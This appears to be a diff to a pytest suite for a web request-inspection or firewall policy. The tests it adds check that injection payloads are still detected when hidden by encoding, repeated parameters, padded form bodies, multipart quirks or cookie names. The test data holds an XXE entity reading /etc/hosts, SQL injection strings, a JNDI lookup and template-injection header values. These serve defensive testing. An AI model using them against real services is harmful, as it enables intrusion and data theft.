@@ -45,6 +45,9 @@ CONTRACT = {
                                 },
                             }
                         },
+                        "application/x-www-form-urlencoded": {
+                            "schema": {"type": "object", "properties": {"kind": {"type": "string", "enum": [SQL, "a"]}}}
+                        },
                         "application/xml": {"schema": {"type": "object"}},
                     }
                 },
@@ -55,7 +58,9 @@ CONTRACT = {
 }
 
 
-def decided(line: str, body: Any = None, media_type: str = "application/json", **payload: Any) -> Event:
+def decided(
+    line: str, body: Any = None, media_type: str = "application/json", coding: str = "", **payload: Any
+) -> Event:
     """The event of one request, under a policy where only `payload` enforces."""
     names = ("canonical-form", "media-type", "request-schema", "request-limits")
     controls = {name: {"mode": "monitor"} for name in names} | {"payload": {"mode": "enforce", **payload}}
@@ -63,7 +68,8 @@ def decided(line: str, body: Any = None, media_type: str = "application/json", *
                                          "controls": controls}).encode(), "garrison.yaml")  # fmt: skip
     policy = build_policy(settings, read=lambda _: json.dumps(CONTRACT).encode())
     data = body if isinstance(body, bytes) or body is None else json.dumps(body).encode()
-    headers = (("content-type", media_type),) if data is not None else ()
+    said = {"content-type": media_type if data is not None else "", "content-encoding": coding}
+    headers = tuple([(name, value) for name, value in said.items() if value])
     exchange = Exchange(policy, EVENT_ID, 1.0)
     exchange.request(request_head(line, headers, data), data)
     return exchange.close(1.0)
@@ -104,6 +110,36 @@ def test_xml_is_read_though_no_schema_describes_it() -> None:
     entity = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]><a>&b;</a>'
     assert [found for found, _ in reasons(decided("POST /notes", entity, "application/xml"))] == ["payload-xml"]
     assert reasons(decided("POST /notes", b"<a><b>text</b></a>", "application/xml")) == []
+    hidden = [found for found, _ in reasons(decided("POST /notes", entity + b" ", "application/xml; charset=utf-16le"))]
+    assert hidden == ["payload-xml"]
+
+
+FORM = "application/x-www-form-urlencoded"
+
+
+def test_what_is_not_coded_as_it_says_is_read_as_it_came() -> None:
+    assert reasons(decided("POST /notes", {"text": SQL}, coding="gzip")) == [("payload-sql", "body")]
+    assert reasons(decided("POST /notes", {"text": "a"}, coding="gzip")) == []
+
+
+def test_of_what_is_given_again_nothing_is_pinned_down() -> None:
+    again = quote("' union select password from users --")
+    assert reasons(decided(f"GET /notes?code=a&code={again}")) == [("payload-sql", "query.code")]
+    assert reasons(decided("POST /notes", f"kind=a&kind={again}".encode(), FORM)) == [("payload-sql", "body/kind")]
+
+
+def test_no_number_of_parts_hides_what_stands_behind_them() -> None:
+    many = b"a=1&" * 1000
+    assert [found for found, _ in reasons(decided("POST /notes", many + b"b=1'+or+'1'='1", FORM))] == ["payload-sql"]
+
+
+@pytest.mark.parametrize(
+    ("name", "found"), [("", ["payload-sql"]), ('; filename=""', ["payload-sql"]), ('; filename="a.jpg"', [])]
+)
+def test_no_byte_makes_an_opaque_file_of_a_part_that_is_none(name: str, found: list[str]) -> None:
+    part = f'--b\r\nContent-Disposition: form-data; name="q"{name}\r\n\r\n{SQL}'.encode() + b"\xff\r\n--b--\r\n"
+    event = decided("POST /notes", part, "multipart/form-data; boundary=b")
+    assert [each for each, _ in reasons(event)] == found
 
 
 @pytest.mark.parametrize(
@@ -345,3 +381,9 @@ def test_a_field_with_a_grammar_of_its_own_is_read_where_it_says_what_that_has_n
     accept, media_type = "../../srv/list{{", "%{7*7}.multipart/form-data"
     found = head_texts({"accept": accept, "content-type": media_type})
     assert found == [("header.accept", accept), ("header.content-type", media_type)]
+
+
+@pytest.mark.parametrize("pair", ["${jndi:ldap://a.example/b}", "${jndi:ldap://a.example/b}=1", "' or '1'='1"])
+def test_names_of_cookies_are_read_where_they_say_more_than_a_name_does(pair: str) -> None:
+    assert head_texts({"cookie": f"a=b; __Host-c=d; {pair}"})[-1] == ("cookie", pair)
+    assert ("cookie", "__Host-c=d") not in head_texts({"cookie": f"a=b; __Host-c=d; {pair}"})
